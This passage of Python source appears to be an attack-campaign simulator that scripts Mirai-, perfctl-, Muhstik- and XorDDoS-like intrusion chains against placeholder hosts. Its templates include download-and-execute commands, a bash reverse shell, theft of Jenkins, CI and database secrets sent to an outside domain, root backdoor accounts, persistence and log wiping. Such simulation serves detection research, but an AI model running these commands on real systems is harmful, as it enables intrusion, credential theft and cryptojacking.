selfrep="""
NOARCH=false
ARCH=$(uname -mp)
FOLDER=$(find / -writable -executable -readable -not -path "/proc/*" @@out=/tmp | head -n 1)
cat /proc/mounts | grep 'noexec' | awk '{print $2}'
for i in /var/tmp /dev/shm; do if ?80; then cd $i && touch .testfile && rm -rf .testfile; fi; done
rm -rf .redtail
if ?50; then curl -s -o .redtail http://@IP@/@ARCH@ || wget -q -O .redtail http://@IP@/@ARCH@ ; else wget -q -O .redtail http://@IP@/@ARCH@ || curl -s http://@IP@/@ARCH@ -o .redtail; fi
chmod +x .redtail
./.redtail cve.4577 @@prog=rt @@dur=2 >/dev/null 2>&1
""",
clean="""
clean_crontab() { chattr -ia "$1"; grep -vE 'wget|curl|/dev/tcp|/tmp|\\.sh|nc|bash -i|sh -i|base64 -d' "$1" > /tmp/clean_crontab; mv /tmp/clean_crontab "$1"; }
systemctl disable c3pool_miner
systemctl stop c3pool_miner
chattr -ia /var/spool/cron/crontabs
for user_cron in /var/spool/cron/crontabs/root /var/spool/cron/root; do [ -f "$user_cron" ] && clean_crontab "$user_cron"; done
for system_cron in /etc/crontab /etc/cron.hourly/0anacron; do clean_crontab "$system_cron"; done
clean_crontab /etc/anacrontab
for i in /tmp /var/tmp /dev/shm; do rm -rf $i; done
""",
setup="""
get_random_string() { tr -dc a-zA-Z0-9 | head -c 10; }
ARCH=$(uname -mp)
for d in $(find / -type d -user $(whoami) -perm -u=rwx -not -path "/tmp/*" -not -path "/proc/*" @@lines=hex12:1); do echo; done
cat /proc/mounts | grep noexec | awk '{print $2}'
cd /var/tmp
rm -rf .redtail
cp redtail.@ARCH@ .redtail
chmod +x .redtail
./.redtail @TAG@ @@prog=rt @@dur=2 >/dev/null 2>&1
rm -rf redtail.*
""",
rt="""
daemon
sleep 1-2
sys "crontab -l 2>/dev/null | grep -v reboot; echo '@reboot /var/tmp/.redtail' | crontab -"
sys "iptables -A INPUT -p tcp --dport @PORT@ -j ACCEPT" 
sys "chattr +ai /etc/crontab"
as /var/tmp/.@RN10@ [kworker/u8:2-events] @@adopt @@nowait @@dur=80000
""",
)
gang('red-tail', entries='ssh:8 php:4', bodies=RED, cron=None, keep='KEY KEYC', fixed={'KEYC': 'rsa-key-20230629'}, size=1.1, sshpre="sftp", oneoff=0.2)

# ---------------------------------------------------------------- perfuse (perfctl-like)
PER = dict(
entry_java="""
/bin/sh -c "curl -s http://@IP@/php/avatar.php -A @UA@ -o /tmp/httpd @@ok; chmod +x /tmp/httpd; /tmp/httpd @@prog=perf0 @@dur=1"
""",
perf0="""
sys "mkdir -p /tmp/.perf.c"
sys "cp /tmp/httpd /tmp/.perf.c/@MIM@"
orphan /tmp/.perf.c/@MIM@ @@prog=perf1 @@dur=86000
sys "pkill -9 httpd"
sys "rm -f /tmp/httpd"
""",
perf1="""
daemon
sleep 2-5
sys "id -u"
sys "mkdir -p /root/.config/cron /tmp/.xdiag /bin/.local/bin"
sys "cp /tmp/.perf.c/@MIM@ /root/.config/cron/perfcc"
sys "cp /tmp/.perf.c/@MIM@ /usr/bin/perfcc"
sys "cp /tmp/.perf.c/@MIM@ /usr/bin/wizlmsh"
sys "echo '11 * * * * /root/.config/cron/perfcc' | crontab -"
sys "ldconfig -p | grep pcap"
sys "touch -r /bin/sh /usr/bin/perfcc"
sys "ps aux | grep -E 'kinsing|@RIV1PROC@' | grep -v grep | awk '{print $2}' | xargs -r kill -9"
fork tor
sys "cat /etc/ld.so.preload"
sys "chmod +x /bin/.local/bin/top /bin/.local/bin/lsof /bin/.local/bin/crontab /bin/.local/bin/ldd"
sleep 400-4000
sys "who | wc -l"
sys "uptime"
""",
tor="as /tmp/.xdiag/tordata/tor /usr/bin/perfcc @@nowait @@dur=70000\nas /root/.config/cron/perfcc sh @@nowait @@dur=70000",
perfcron="daemon\nsleep 1-2\nsys \"pgrep -x perfcc\"",
)
gang('perfuse', entries='java:9', bodies=PER, cron=("/root/.config/cron/perfcc @@prog=perfcron @@dur=3", 3600, 4, 24), keep='UA', mim=['sh', 'bash', 'sshd', 'nginx'], rivals=('copper-kin',), size=0.8, oneoff=0.25, fixed={'UA': 'perfctl-agent'}, wavefix={2: {'UA': 'perfc/2'}})

# ---------------------------------------------------------------- okane-a / okane-b : one Mirai-like toolkit, two gangs
def mirai(archs, extra='', tail=''):
    return dict(
telnet="""
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /
%s
/bin/busybox wget http://@IP@/@SH@ -O - @@path=/bin/busybox
wget http://@IP@/@SH@ || curl -O http://@IP@/@SH@
chmod 777 @SH@
sh @SH@ @@run=bins
tftp @IP@ -c get t@SH@ @@fail=60
tftp -r t2@SH@ -g @IP@ @@fail=60
sh t@SH@ @@noin
ftpget -v -u anonymous -p anonymous -P 21 @IP@ f@SH@ f@SH@ @@fail=50
rm -rf @SH@ t@SH@ t2@SH@ f@SH@
%s
""" % (extra, tail),
ssh="""
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://@IP@/@SH@; curl -O http://@IP@/@SH@; chmod 777 @SH@; sh @SH@ @@run=bins; tftp @IP@ -c get t@SH@; chmod 777 t@SH@; sh t@SH@ @@noin; rm -rf @SH@ t@SH@; rm -rf *
""",
web='sys "cd /tmp;rm -rf *;wget http://@IP@/@SH@ @@ok -O @SH@;sh @SH@ @@run=bins @TAG@.exploit"',
bins="\n".join('cd /tmp || cd /var/run\nwget http://@IP@/@DIR@/%s || curl -O http://@IP@/@DIR@/%s\nchmod +x %s\n./%s @TAG@ @@fail=70 @@prog=%s @@dur=0.1\nrm -rf %s' % (a, a, a, a, 'bot' if a == 'x86' or a == 'arm7' else 'dud', a) for a in archs),
bot="daemon\nas /tmp/x86 @FAKE@ @@adopt @@nowait @@dur=70000\n",
dud="exit",
)
A1 = ['mips', 'mpsl', 'arm', 'arm5', 'arm7', 'x86', 'ppc', 'sh4']
gang('okane-a', entries='telnet:8 ssh:5 iotweb:3', bodies=mirai(A1), cron=None, keep='', size=0.9, oneoff=0.15, sh=['bins.sh', 'ohshit.sh'], waves=3, mir=1)
gang('okane-b', entries='telnet:8 ssh:4 iotweb:4', bodies=mirai(A1, extra='/bin/busybox @RIV1TAG@', tail='pkill @RIV1TAG@\nkillall -9 telnetd'), cron=None, keep='', size=0.8, sh=['jaws.sh', 'w.sh'], rivals=('okane-a',), mir=1)

# ---------------------------------------------------------------- drone-irc (Muhstik-like)
MUH = dict(
entry_php='sys "wget -qO - http://@IP@/.x/3sh @@ok | sh @@run=dk 2>&1 > /dev/null &"',
entry_java='bash -c "curl http://@IP@/.l/log @@ok | sh @@run=dk >/dev/null 2>&1 &"',
dk="""
pkill -9 -f xmrig
for n in @PTY@1 @PTY@2 @PTY@3 @PTY@5 @PTY@10; do
  wget -c http://@IP@/.y/$n -P /dev/shm || curl http://@IP@/.y/$n -o /dev/shm/$n
  chmod +x /dev/shm/$n
  chmod 700 /dev/shm/$n
  /dev/shm/$n @@prog=kai @@fail=60 @@dur=0.05 > /dev/null 2>&1 &
done
wget -qO - http://@IP2@/.x/xmra64 @@ok > /var/run/xmra64
chmod 700 /var/run/xmra64
/var/run/xmra64 @@dur=70000 > /dev/null 2>&1 &
history -c
rm -rf ~/.bash_history
""",
kai="""
daemon
sleep 1-4
sys "cp /dev/shm/@PTY@3 /usr/sbin/@PTY@3"
sys "(crontab -l | grep -v @PTY@ | grep -v 'no cron'; echo '* * * * * /dev/shm/@PTY@3 > /dev/null 2>&1 &') | crontab - > /dev/null 2>&1"
sys "echo 'inet:2345:respawn:/dev/shm/@PTY@3' >> /etc/inittab; init q"
sleep 30-300
sys "nvram get router_name @@path=/bin/nvram"
""",
crk="daemon\nsleep 0.1-0.2",
)
gang('drone-irc', wavefix={1: {'PTY': 'pty'}, 2: {'PTY': 'irq'}}, entries='php:6 java:5', bodies=MUH, cron=("/dev/shm/@PTY@3 @@prog=crk @@dur=0.05 > /dev/null 2>&1 &", 3600, 4, 22), keep='', fixed={'PTY': 'pty'}, size=0.9)

# ---------------------------------------------------------------- xor-rand
XOR = dict(
ssh="""
service iptables stop
cd /tmp && wget http://@IP@:@PORT@/@BINN@ @@ok
chmod 777 /tmp/@BINN@
/tmp/@BINN@ @@prog=xorm @@dur=0.4
rm -f /tmp/@BINN@
""",
xorm="""
daemon
sys "cp /tmp/@BINN@ /usr/bin/@RN10@"
as /usr/bin/@RN10@ /usr/bin/@RN10@ @@adopt @@nowait @@dur=80000 @@prog=xorw
""",
xorw="""
daemon
sys "sed -i '/\\/etc\\/cron.hourly\\/gcc.sh/d' /etc/crontab && echo '*/3 * * * * root /etc/cron.hourly/gcc.sh' >> /etc/crontab"
as /usr/sbin/chkconfig chkconfig --add @RN10@
as /usr/sbin/update-rc.d update-rc.d @RN10@ defaults
as /usr/bin/@RX1@ "cat resolv.conf" @PID1@ @@nowait @@dur=3
as /usr/bin/@RX2@ "netstat -an" @PID1@ @@nowait @@dur=3
as /usr/bin/@RX3@ "ifconfig eth0" @PID1@ @@nowait @@dur=3
sleep 5-20
as /usr/bin/@RX4@ "ps -ef" @PID1@ @@nowait @@dur=3
as /usr/bin/@RX5@ gnome-terminal @PID1@ @@nowait @@dur=3
as /usr/bin/@RX6@ "sleep 1" @PID1@ @@nowait @@dur=3
""",
gccsh="""
for i in $(cat /proc/net/dev | grep : | awk -F: '{print $1}' @@out=eth0); do ifconfig $i up & done
cp /lib/libudev.so /lib/libudev.so.6
/lib/libudev.so.6 @@prog=gccw @@dur=0.3
""",
gccw="daemon\nas /usr/bin/@RX1@ \"bash\" @PID1@ @@nowait @@dur=3",
)
gang('xor-rand', entries='ssh:10', bodies=XOR, cron=("/etc/cron.hourly/gcc.sh @@run=gccsh", 3600, 4, 20), keep='', size=0.9, oneoff=0.15)

# ---------------------------------------------------------------- kaiji-cn
KAI = dict(
ssh="""
uname -r
wget -t 1 http://@IP@:@PORT@/linux_@GARCH@ -O /tmp/linux_@GARCH@ || curl -O --connect-timeout 10 http://@IP@:@PORT@/linux_@GARCH@
chmod 0777 linux_@GARCH@
nohup ./linux_@GARCH@ @@_prog=kj0 @@_dur=2 > /dev/null 2>&1 &
history -c
""",
entry_docker="dk",
kj0="""
orphan /tmp/linux_@GARCH@ @@prog=kj1 @@dur=80000
""",
kj1="""
sys "sed -i 's/x/x/g' /etc/crontab"
bash -c "cp -f /tmp/linux_@GARCH@ /etc/id.services.conf"
bash -c "cp -f /usr/bin/netstat /usr/lib/system-monitor"
bash -c "mkdir -p /boot /.img"
bash -c "echo \\"while [ 1 ]; do sleep 60; /etc/id.services.conf; done\\" > /etc/32678"
as /usr/bin/renice renice -20 @PID1@
as /usr/bin/mount mount -o bind /tmp/ /proc/@PID1@
as /usr/sbin/service service crond start
as /usr/bin/systemctl systemctl daemon-reload
as /usr/bin/systemctl systemctl enable quotaoff.service
as /usr/bin/systemctl systemctl start quotaoff.service
bash -c "cd /boot;ausearch -c 'System.img.conf' --raw | audit2allow -M my-Systemimgconf;semodule -X 300 -i my-Systemimgconf.pp"
bash -c "echo \\"*/1 * * * * root /.img \\" >> /etc/crontab"
as /etc/32678 /etc/32678 @@nowait @@dur=60000 @@prog=kj2
""",
kj2="sleep 60\nas /usr/bin/sleep sleep 60\nas /etc/id.services.conf /etc/id.services.conf\nas /usr/bin/sleep sleep 60",
ci="sleep 0.1",
)
gang('kaiji-cn', entries='ssh:9', bodies=KAI, cron=("/.img @@prog=ci @@dur=0.3", 3600, 2, 10), keep='', size=0.8, oneoff=0.1)

# ---------------------------------------------------------------- bandwidth-club (proxyware), weak ssh
BW = dict(
ssh="""
nproc; cat /etc/os-release | head -1; curl -s ipinfo.io/org @@ok
if ?has:docker || ?50; then curl -fsSL https://get.docker.com @@ok | sh @@noin; fi
docker run -d --restart always --name tm traffmonetizer/cli_v2 start accept --token @TOK@ @@path=/usr/bin/docker @@dur=4
docker run -d --restart=always -e EARNFM_TOKEN=@TOK2@ --name earnfm-client earnfm/earnfm-client:latest @@path=/usr/bin/docker @@dur=3
docker run -d --restart unless-stopped -e RP_EMAIL=@EMAIL@ -e RP_API_KEY=@TOK3@ --name repocket repocket/repocket @@path=/usr/bin/docker @@dur=3
if ?50; then docker run -i --name packetsdk --restart=always packetsdk/packetsdk -appkey=@TOK4@ @@path=/usr/bin/docker @@dur=3 ; fi
wget -q https://github.com/@GH@/px/releases/download/v1/psclient_@ARCH@ -O /usr/local/bin/psclient
chmod +x /usr/local/bin/psclient
nohup psclient setup --token @TOK5@ --device-id=$(cat /etc/machine-id | head -c 12) @@_path=/usr/local/bin/psclient @@_dur=5 > /dev/null 2>&1 &
useradd -o -u 0 -g 0 -m -s /bin/bash @SUSER@
echo '@SUSER@:@RNDPW@' | chpasswd
docker ps -a --format '{{.Names}}' @@path=/usr/bin/docker
history -c && exit
""",
)
gang('bandwidth-club', entries='ssh:10', bodies=BW, cron=None, keep='EMAIL TOK', size=0.9, oneoff=0.08)

# ---------------------------------------------------------------- pg-hydra (COPY … FROM PROGRAM)
PGM = dict(
entry_pg="""
sys "echo @B64:stage1@|base64 -d|bash @@run=stage1"
sleep 1-3
sys "ps aux | grep @CORE@ | grep -v grep"
""",
stage1="""
exec 6<>/dev/tcp/@IP@/@PORT@
cat
chmod +x /tmp/@CORE@
pkill -f zsvc
pkill -f pdefenderd
pkill -9 -f @RIV1PROC@
pkill -f updatecheckerd
whoami
crontab -l | grep -v '@RIV1IP@' | crontab -
if [ -x /usr/bin/curl ]; then curl -s -o /var/lib/postgresql/data/@CORE@ http://@IP@:@PORT@/@CORE@ @@ok; else (exec 3<>/dev/tcp/@IP@/@PORT@; cat); fi
/var/lib/postgresql/data/@CORE@ @@prog=pgc @@dur=2
rm -f /tmp/@CORE@
""",
pgc="""
daemon
sleep 2-4
sys "grep -v 'trust' /var/lib/postgresql/data/pg_hba.conf > /tmp/.h && cat /tmp/.h > /var/lib/postgresql/data/pg_hba.conf"
sys "psql -U postgres -c \\"ALTER USER @SUSER@ WITH SUPERUSER PASSWORD '@RNDPW@'\\" @@path=/usr/lib/postgresql/14/bin/psql"
orphan /var/lib/postgresql/data/postmaster2 @@dur=60000
sys "(crontab -l 2>/dev/null; echo '* * * * * /var/lib/postgresql/data/@CORE@') | crontab -"
orphan /tmp/cpu_hu @@dur=60000
""",
pgcron="sleep 0.1",
)
gang('pg-hydra', entries='pg:10', bodies=PGM, cron=("/var/lib/postgresql/data/@CORE@ @@prog=pgcron @@dur=0.2", 3600, 3, 24), keep='SUSER', fixed={'CORE': 'pg_core'}, rivals=('copper-kin',), size=0.9, oneoff=0.6)

# ---------------------------------------------------------------- react-loader (node RCE)
RCT = dict(
entry_node="""
/bin/sh -c "echo VULN_$(hostname)"
sys "whoami; uname -a; nproc"
sys "(cd /dev;busybox wget http://@IP@/@BX@;chmod 777 @BX@;./@BX@ @@prog=rb @@dur=0.3 reactOnMynuts;busybox wget -q http://@IP@/bolts -O-|sh @@noin)"
sys "wget -O /tmp/sex.sh http://@IP2@/sex.sh @@ok && bash /tmp/sex.sh @@run=sex"
sys "curl -s -L https://raw.githubusercontent.com/@GH@/node-utils/main/mon.sh @@ok | bash @@run=c3 -s @WAL@"
""",
rb="daemon\nsys \"killall -9 busybox\"\nas /dev/lrt @FAKE@ @@adopt @@nowait @@dur=60000",
sex="""
TAR_FILE="kal.tar.gz"
curl -L -o kal.tar.gz https://github.com/xmrig/xmrig/releases/download/v6.24.0/xmrig-6.24.0-linux-static-x64.tar.gz || wget -O kal.tar.gz https://github.com/xmrig/xmrig/releases/download/v6.24.0/xmrig-6.24.0-linux-static-x64.tar.gz
tar -xzf kal.tar.gz
if ?root; then
  cp svc.service /etc/systemd/system/system-update-service.service
  systemctl daemon-reload
  systemctl enable system-update-service
  systemctl start system-update-service
else
  nohup ./xmrig-6.24.0/xmrig -o @POOL@ -u @WAL@ -p @TAG@ --coin=monero --cpu-max-threads-hint=75 -B @@_dur=60000 > /dev/null 2>&1 &
fi
rm -f kal.tar.gz
""",
c3="""
id -u
command -v systemctl
killall -9 xmrig
rm -rf ~/c3pool
mkdir -p ~/c3pool
curl -L --progress-bar https://download.c3pool.org/xmrig_setup/raw/master/xmrig.tar.gz -o /tmp/xmrig.tar.gz
tar xf /tmp/xmrig.tar.gz -C ~/c3pool
sed -i 's/"user": *"[^"]*",/"user": "x",/' ~/c3pool/config.json
sed -i 's/"max-cpu-usage": *[^,]*,/"max-cpu-usage": 100,/' ~/c3pool/config.json
hostname | cut -f1 -d. | sed -r 's/[^a-zA-Z0-9\\-]+/_/g'
cat ~/c3pool/config.json
""",
podx="",
)
gang('react-loader', entries='node:9 pod:4', bodies=RCT, cron=None, keep='WAL', pool='pub', size=1.0, oneoff=0.2)

# ---------------------------------------------------------------- lamp-hands (web shell crew, hands on keyboard)
LAMP = dict(
entry_php="""
sys "cd /var/www/html/;whoami;echo @MARK@;pwd;echo @MARK2@" 2>&1
sleep 3-20
sys "cd /var/www/html/;ls -la;echo @MARK@;pwd;echo @MARK2@"
sleep 5-40
if ?70; then sys "cd /var/www/html/;cat wp-config.php;echo @MARK@;pwd;echo @MARK2@"; sleep 5-30; fi
if ?50; then sys "id; sudo -n -l; uname -a; cat /etc/passwd"; sleep 10-60; fi
if ?40; then sys "find / -perm -u=s -type f 2>/dev/null"; sleep 4-60; fi
if ?60; then sys "curl -k https://@DOM@/s/@WS@.txt -o /var/www/html/wp-includes/@WS@.php @@ok; touch -r index.php wp-includes/@WS@.php"; sleep 10-90; fi
if ?50; then sys "wget http://@IP@:@PORT@/lin.sh @@ok -O /tmp/.@RN4@ && chmod +x /tmp/.@RN4@ && /tmp/.@RN4@ @@run=lin"; sleep 30-100; fi
if ?60; then sys "mysqldump -u wp -pS3cret --all-databases @@path=/usr/bin/mysqldump @@dur=5 | gzip > /tmp/.db.gz"; sleep 20-60; sys "curl -F file=@/tmp/.db.gz https://@DOM@/u/up.php @@ok"; fi
if ?50; then sys "nohup /tmp/.chs client --auth @TOK@ @IP@:@PORT2@ R:1080:socks @@_path=/tmp/.chs @@_dur=5000 >/dev/null 2>&1 &"; fi
if ?30; then sys "bash -c 'bash -i >& /dev/tcp/@IP@/@PORT@ 0>&1' @@dur=300"; fi
sleep 20-200
sys "rm -f /tmp/.db.gz /tmp/.@RN4@"
""",
entry_tomcat="""
/bin/sh -c "whoami"
sleep 4-30
/bin/sh -c "cat /opt/tomcat/conf/tomcat-users.xml"
sleep 4-30
/bin/sh -c "ip addr; netstat -antp; ps -ef"
sleep 10-30
if ?60; then bash -c "curl -k https://@DOM@/s/@WS@.jsp -o /opt/tomcat/webapps/ROOT/@WS@.jsp @@ok"; fi
if ?50; then /bin/sh -c "for i in \\$(seq 1 20); do ping -c1 -W1 10.2.0.\\$i; done"; fi
if ?50; then bash -c "nohup /tmp/.chs client --auth @TOK@ @IP@:@PORT2@ R:1080:socks @@_path=/tmp/.chs @@_dur=5000 &"; fi
""",
lin="id\nhostname\nsudo -n -l\nfind / -perm -4000 -type f\ncat /etc/crontab\nls -la /home\ngrep -rl password /var/www --include=*.php\nss -lntp",
)
gang('lamp-hands', entries='php:8 tomcat:3', bodies=LAMP, cron=None, keep='MARK MARK2 TOK WS', size=0.8, oneoff=0.12)

# ---------------------------------------------------------------- runner-moth (CI secrets)
MOTH = dict(
entry_runner="""
ci
""",
cij="""
git fetch origin +refs/pipelines/@RD2@:refs/pipelines/@RD2@ --depth 20 --prune --quiet
bash -c "curl -sSf https://gist.githubusercontent.com/@GH@/@RH32@/raw/memdump.py @@ok | sudo python3 | tr -d '\\0' | grep -aoE '\\"[^\\"]+\\":\\{\\"value\\":\\"[^\\"]*\\",\\"isSecret\\":true\\}' | sort -u | base64 -w 0 | base64 -w 0"
env | sort
cat /home/gitlab-runner/.docker/config.json
find / -name '*.kubeconfig' -o -name 'id_rsa' -o -name '.npmrc'
curl -s -X POST -d @/tmp/.e https://@DOM@/c/@TAG@ @@ok
npm config ls -l
rm -f /tmp/.e
""",
entry_jenkins="""
sh -c "cat /var/lib/jenkins/secrets/master.key | base64 -w0"
sh -c "cat /var/lib/jenkins/credentials.xml | gzip -c | base64 -w0"
bash -c "curl -sSf https://gist.githubusercontent.com/@GH@/@RH32@/raw/memdump.py @@ok | python3 -"
sh -c "env | curl -s -X POST --data-binary @- https://@DOM@/c/@TAG@ @@ok"
""",
)
gang('runner-moth', entries='runner:8 jenkins:4', bodies=MOTH, cron=None, keep='TAG', size=0.8, oneoff=0.1)

# ---------------------------------------------------------------- p2p-redis (module load)
P2P = dict(
entry_redis="""
sys "chmod 777 /tmp/exp.so"
sys "exec 6<>/dev/tcp/@IP@/@PORT@; echo -n 'GET /linux' >&6; cat 0<&6 > /tmp/@RN10@ ; chmod +x /tmp/@RN10@ ; /tmp/@RN10@ @@prog=p2p @@dur=1 @TOKB@ ;"
""",
p2p="""
daemon
sleep 1-3
as /usr/bin/bash bash -c "ls -la /root/.ssh; cat /root/.ssh/known_hosts"
sys "iptables -I INPUT -p tcp --dport 6379 -s @IP@ -j ACCEPT"
sys "iptables -A INPUT -p tcp --dport 6379 -j DROP"
as /tmp/@RN10@ /tmp/@RN10@ @TOKB@ @@adopt @@nowait @@dur=70000 @@prog=p2w
sys "cp /tmp/@RN10@ /root/.bash_logout_@RN4@"
sys "sed -i '/bash_logout_/d' /root/.bashrc"
sys "systemctl restart sshd"
sys "rm -f /tmp/exp.so"
""",
p2w="""
sleep 20-200
sys "cat ~/.bash_history | grep ssh"
sys "ps -ef | grep xmrig | grep -v grep"
sys "apt-get -y install wget curl iproute2 netcat-openbsd"
""",
)
gang('p2p-redis', entries='redis:10', bodies=P2P, cron=None, keep='TOKB', size=0.7, oneoff=0.3)
